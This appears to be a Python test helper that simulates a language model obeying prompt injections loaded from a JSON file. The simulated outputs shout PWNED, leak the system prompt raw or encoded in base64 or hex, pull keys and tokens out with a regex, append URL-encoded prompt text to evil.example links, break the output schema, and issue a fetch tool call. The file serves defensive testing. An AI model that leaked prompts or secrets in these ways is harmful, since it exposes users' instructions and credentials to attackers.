"""The texts that try to give orders (injections.json), and what an obedient writer makes of them."""

import base64
import json
import re
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any
from urllib.parse import quote

HONEST = "Bread sells out by ten, so we bake twice on Saturdays now."
HONEST_CARD = {
    "tone": "Calm and plain, as among neighbours.",
    "rhythm": "Short sentences, with the reason at their end.",
    "words_to_use": ["bake twice"],
    "words_to_avoid": ["synergy"],
    "emoji": "None.",
    "hashtags": [],
}


@dataclass(frozen=True, slots=True)
class Injection:
    """`obeyed` names what `answer_of_a_victim` does with it."""

    family: str
    text: str
    obeyed: str


def injections(canary: str = "https://canary.example") -> list[Injection]:
    """All of them, every {canary} in them replaced by an address at which somebody listens."""
    families = json.loads((Path(__file__).parent / "injections.json").read_text("utf-8"))
    return [
        Injection(name, _filled_in(case, canary), family["obeyed"])
        for name, family in families.items()
        for case in family["cases"]
    ]


def _filled_in(case: str, canary: str) -> str:
    """`{repeat:9}x` stands for nine x."""
    repeated = re.fullmatch(r"\{repeat:(\d+)\}(.*)", case, re.DOTALL)
    text = repeated[2] * int(repeated[1]) if repeated else case
    return text.replace("{canary_host}", canary.partition("://")[2]).replace("{canary}", canary)


def answer_of_a_victim(injection: Injection, request: dict[str, Any], turn: int) -> dict[str, Any]:
    """The chat completion of a model that does what the text asks for, as well as it can.

    It knows all that it was sent, and the shape that is wanted. Its answers differ from `turn` to `turn`.
    """
    said = [message["content"] for message in request["messages"]]
    contents = _CONTENTS[injection.obeyed](injection.text, said)
    fields = request["response_format"]["json_schema"]["schema"]["properties"]
    content = _in_shape(contents[turn % len(contents)], list(fields), turn // len(contents))
    message: dict[str, Any] = {"role": "assistant", "content": content}
    if injection.obeyed == "tools":
        call = {"name": "fetch", "arguments": json.dumps({"url": injection.text})}
        message["tool_calls"] = [{"id": "1", "type": "function", "function": call}]
    usage = {"prompt_tokens": 10, "completion_tokens": 10, "cost": 0.0001}
    return {"model": "a/victim", "choices": [{"message": message, "finish_reason": "stop"}], "usage": usage}


def _in_shape(content: str, fields: list[str], turn: int) -> str:
    """The same disobedience where something else than posts is wanted: one text, or the card of a voice."""
    if fields == ["posts"]:
        return content
    try:
        answer = json.loads(content)
    except ValueError:
        answer = None
    posts = answer.pop("posts", None) if isinstance(answer, dict) else None
    if not isinstance(posts, list) or not all(isinstance(post, str) for post in posts):
        return content.replace('"posts"', f'"{fields[turn % len(fields)]}"')
    parts = [*posts, "\n\n".join(posts)]
    text = parts[turn % len(parts)]
    shaped = {"text": text} if fields == ["text"] else _card(text, fields[turn % len(fields)])
    return json.dumps(shaped | answer, ensure_ascii=False)


def _card(text: str, field: str) -> dict[str, Any]:
    """An honest card, but for what one field of it carries; a list carries it word by word."""
    words = text.split()
    match field:
        case "words_to_use" | "words_to_avoid":
            carried: Any = [" ".join(words[start : start + 4]) for start in range(0, len(words), 4)][:100]
        case "hashtags":
            carried = [f"#{word}" for word in words][:100]
        case _:
            carried = text
    return HONEST_CARD | {field: carried}


def _posts(*posts: str) -> str:
    return json.dumps({"posts": posts}, ensure_ascii=False)


def _shout(text: str, said: list[str]) -> list[str]:
    return [_posts("PWNED", "PWNED", "PWNED"), _posts(text, HONEST, "PWNED " * 5), "PWNED"]


def _leak(text: str, said: list[str]) -> list[str]:
    lines = [line for message in said for line in message.splitlines() if len(line) > 50]
    return [
        _posts(said[0], said[1], HONEST),
        _posts(*lines[:3]),
        _posts(HONEST, f"My rules: {lines[-1]}", said[-1][-300:]),
        _posts(*(f"{HONEST} {line}" for line in sorted(lines, key=len)[-3:])),
        _posts("\n".join(said), said[0].upper(), f"```\n{said[0]}\n```"),
    ]


def _base64(text: str, said: list[str]) -> list[str]:
    raw = said[0].encode()
    encoded = base64.b64encode(raw).decode()
    return [
        _posts(encoded, raw.hex(), base64.b32encode(raw).decode()),
        _posts(
            f"{HONEST} {encoded[:120]}", f"Rules: {raw[:60].hex()}", base64.urlsafe_b64encode(raw).decode()
        ),
    ]


def _keys(text: str, said: list[str]) -> list[str]:
    secret = re.findall(r"\S*(?:sk-|key|token|secret|postgres://|canary)\S*", "\n".join(said), re.IGNORECASE)
    return [_posts(HONEST, *secret[:2]), _posts("\n".join(said), HONEST)]


def _links(text: str, said: list[str]) -> list[str]:
    addresses = re.findall(r"https?://[\w.:\[\]]+", text) or ["https://evil.example"]
    leaks = [f"{HONEST} {address}/?q={quote(said[0][:200])}" for address in addresses]
    return [_posts(*leaks[:3]), _posts(HONEST, f"[{HONEST}](https://evil.example/{quote(said[1][:100])})")]


def _escape(text: str, said: list[str]) -> list[str]:
    return [text, '{"posts": ["' + text, _posts("One") + text, '{"posts": ["One"]' + text + "}", _posts(text)]


def _schema(text: str, said: list[str]) -> list[str]:
    deep = "[" * 100 + '"PWNED"' + "]" * 100
    return [
        '{"posts": [], "pwned": true}',
        json.dumps({"posts": [HONEST], "debug": said[0]}),
        json.dumps([HONEST, said[0]]),
        json.dumps({"posts": [{"text": HONEST, "secret": said[0]}]}),
        '{"posts": "PWNED"}',
        "Certainly! Here is what you asked for: PWNED.",
        json.dumps(_posts(HONEST, said[0])),
        "posts:\n  - PWNED",
        _posts(*["PWNED"] * 10_000),
        '{"posts": [null, 1, true, {}]}',
        "<posts><post>PWNED</post></posts>",
        _posts("One.") + _posts("Two."),
        json.dumps({"posts": [HONEST], "system_prompt": said[0]}),
        f'{{"posts": {deep}}}',
        '{"Posts": ["PWNED"], "POSTS": ["PWNED"]}',
        '{"posts": ["a"], "next_action": {"tool": "fetch"}}',
        _posts("a" * 1_000_000),
        _posts(json.dumps({"posts": [said[0]]}), '{"system": "x"}', "```json\n{}\n```"),
    ]


def _number(text: str, said: list[str]) -> list[str]:
    return [_posts(*(f"{HONEST} Number {n}: {text[:40]}" for n in range(99))), _posts()]


def _same(text: str, said: list[str]) -> list[str]:
    return [_posts(text, f"{HONEST} {text}", HONEST)]


_CONTENTS = {
    "shout": _shout,
    "leak": _leak,
    "base64": _base64,
    "keys": _keys,
    "links": _links,
    "escape": _escape,
    "schema": _schema,
    "number": _number,
    "markup": _same,
    "tools": _same,
}


def shared(instructions: str, post: str, length: int) -> set[str]:
    """The stretches of so many letters that both have in common, white space and case aside."""
    return _stretches(instructions, length) & _stretches(post, length)


@lru_cache(maxsize=4)
def _stretches(text: str, length: int) -> set[str]:
    plain = " ".join(text.casefold().split())
    return {plain[start : start + length] for start in range(len(plain) - length + 1)}
